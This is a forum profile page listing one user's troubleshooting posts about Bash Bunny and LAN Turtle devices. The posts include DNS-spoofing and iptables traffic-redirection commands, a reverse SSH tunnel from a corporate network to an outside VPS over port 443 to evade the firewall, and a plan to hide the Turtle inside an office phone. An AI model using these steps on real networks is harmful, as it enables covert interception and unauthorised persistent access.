Jump to content


Active Members
  • Posts

  • Joined

  • Last visited

Recent Profile Visitors

704 profile views

kanalia's Achievements


Newbie (1/14)

  1. Hi Gents I tried to assign a random hex to variables but this does not seem to work:VID=var="VID_0X"$(printf "%04X" $RANDOM) PID=var="PID_0X"$(printf "%04X" $RANDOM) ATTACKMODE RNDIS_ETHERNET $VID $PID I need to find the script that executes the payload. Maybe the variables are not resolved. Any suggestions? regards
  2. Hi Bunny hoppers The Bunny works on the principle that hosts detect it as 2Gb Ethernet. It then takes precedence over other networks. I noticed that if plugged in for the first time it works every time. If connected more than one time it sometimes detects with speed of 0 (images attached) which makes Bunny useless. Has anyone else experienced this? If I uninstall the driver and plug in again it will detect as 2Gb.
  3. Works like a charm if Bunny detects as 2Gb adapter (takes precedence over host's NIC) https://github.com/pojebus/bashbunny-payloads/tree/master/payloads/library/dns_spoofer
  4. I figured it out, the interface must be specified when using dnsspoof. regards
  5. I also tried to achieve this by spoofing dns: Enable port forwarding echo 1 > /proc/sys/net/ipv4/ip_forward Configure iptables to forward udp traffic on port 53 iptables -t nat -A PREROUTING -i usb0 -p udp --destination-port 53 -j REDIRECT --to-port 53 Create hosts file - nano hosts, create entry * Run dnsspoof dnsspoof -f hosts No luck either. Any help much appreciated. regards, Mike
  6. Hi Folks Just wonder if it would be possible to redirect all the host traffic to apache server running on bunny. I have installed apache and can browse it from host. I enabled port forwarding: echo "1" > /proc/sys/net/ipv4/ip_forward and added following iptables rules: iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination iptables -t nat -A POSTROUTING -jMASQUERADE Please excuse if I am doing something silly. I am a newbie. regards, Mike
  7. Right folks, I do not know if this is coincedence but it works every time if i change the syntax on VPS. My pc at work is behind firewall so I can reverse ssh to my VPS only through port 80 or 443. I have changed the ssh settings (etc/config/autossh) to: option ssh '-i /root/.ssh/id_rsa -N -T -R 2222:localhost:22 turtlessh@X.X.X.X -p 443' and then on my VPS: ssh -p 2222 root@localhost This works every time. Previosly i called ssh root@localhost -p 2222 which intermitently connected to turtle but most of the time it thrown a 'Connection refused' error. Please give this a try and let me know if it works. I lost my hair overnight, so embarasing. P.S. I hate computers! I was not born to do it. Unfurtunatelly there is nothing else I could do to pay the bills :)
  8. Hi, Can you please kindly explain the following settings: option gatetime '0' option monitorport '20000' option poll '600' taken from etc\config\autossh. I have a problem with autossh. When I plug my turtle with Ethernet cable already attached it won't work. I need to wait for the orange light to stop blinking, then attach the Ethernet cable, autossh works like a charm then. I thought that if I could delay executing the ssh command maybe it would work with Ethernet cable attached as well. I was going to embed the turtle in IP office phone, where turtle pins will besoldered to the PCB of the phone (which translates to Ethernet cable attached when powering Turtle). I really need to get it working. Any help much appreciated, regards, kanalia
  9. Has anyone found a cure to this problem? I am experiencing this too. If i plug my turtle into computer with Ethernet cable attached it wont autossh. I have to plug it in, wait for the orange light to stop blinking then attach Ethernet cable. Also can anyone explain the settings from autossh config file: option gatetime '0' option monitorport '20000' option poll '600' much appreciated, kanalia
  10. Thanks, I watched themovie and made some changes but did not resolve it. Can you by any chance have a quick peek at my config and maybe you will be able to spot what's wrong. I am losing the plot. Turtle networks (I bridged both NIC's so both are allocated IP by DHCP): Turtle network configuration: Turtle's firewall configuration: Laptop's network (second client connected to VPN server): OpenVPN server config: To all clever people (clearly I do not belong to this group :) ), any help would by much appreciated. Regards
  11. Hi clever people! I have recently watched Darren's clip on how to configure my turtle with OpenVPN server. I created a VPS in the cloud, installed VPN server and configured users as per tutorial. Both users can now connect to VPN server but I can only ping turtle form my laptop. The network the turtle is on is not accessible. Clearly I am missing something.Any help would be much appreciated. Best regards
  12. This is now resolved. Go to etc/config/network and change the config for 'lan' to: config interface 'lan' option ifname 'eth0 eth1' option type 'bridge' option proto 'dhcp' Both interfaces are assigned an ip by DHCP.
  13. Hi Chaps I have just created a virtual server on azure. The corporate network's firewall blocks port 22 so I added an endpoint which translate port 443 to 22 - great! I can now ssh to my server. I have created a key pair and copied it to the server via turtle. I went to autossh configuration screen and am a bit puzzled. How should I configure it if the only ports that are not blocked are 80 and 443?? regards
  14. Hi Chaps I have figured it out myself. Simply go to etc/config/network and change the config for 'lan' to: config interface 'lan' option ifname 'eth0 eth1' option type 'bridge' option proto 'dhcp' This bridge will make both adapters visible to target network so both adapters will be allocated an IP by DHCP. Have fun!!
  15. Hi Chaps I posted this question before but I am going to go into details a bit more this time. This is the current config of the device: config interface 'loopback' option ifname 'lo' option proto 'static' option ipaddr '' option netmask '' config globals 'globals' option ula_prefix 'fda4:1103:3ec4::/48' config interface 'lan' option ifname 'eth0' option force_link '1' option type 'bridge' option proto 'static' option ipaddr '' option netmask '' option ip6assign '60' config interface 'wan' option ifname 'eth1' option macaddr'00:e0:4c:36:1c:12' optionproto 'dhcp' config interface 'vpn' optionifname 'tun0' option proto 'dhcp' config interface 'wan6' option ifname '@wan' option proto 'dhcpv6' As you can see the Ethernet end is configured to be served an IPby DHCP, the host will be allocated an IP in 172.16.84.* range and then both networks are bridged. In domain environment I can access the internet but I am not on domain any more which makes Turtle useless in this case. So the question is - is it possible to have 'lan' on the same network as 'wan'? Regards, kanalia
  • Create New...